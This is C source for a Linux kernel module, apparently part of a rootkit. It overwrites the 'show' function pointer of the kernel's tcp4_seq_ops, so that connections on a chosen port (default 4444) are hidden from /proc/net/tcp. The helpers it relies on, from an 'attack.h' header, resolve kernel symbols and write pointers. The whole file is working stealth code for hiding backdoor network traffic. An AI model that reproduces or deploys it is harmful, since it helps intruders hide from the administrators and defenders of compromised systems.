/* Hides a TCP port from /proc/net/tcp: the pointer "show" of its seq_operations leads here. Parameter: port. */
#include "attack.h"
#include <linux/seq_file.h>
#include <net/sock.h>

static int port = 4444;
module_param(port, int, 0444);

static struct seq_operations *operations;
static int (*original)(struct seq_file *, void *);

static int show_others(struct seq_file *file, void *socket) {
    if (socket != SEQ_START_TOKEN && ((struct sock *)socket)->sk_num == port) {
        hits++;
        return 0;
    }
    return original(file, socket);
}

static int __init begin(void) {
    operations = (void *)attack_symbol("tcp4_seq_ops");
    if (!operations)
        return -ENOENT;
    original = operations->show;
    return attack_write_pointer(&operations->show, show_others);
}

static void __exit end(void) { attack_write_pointer(&operations->show, original); }

module_init(begin);
module_exit(end);
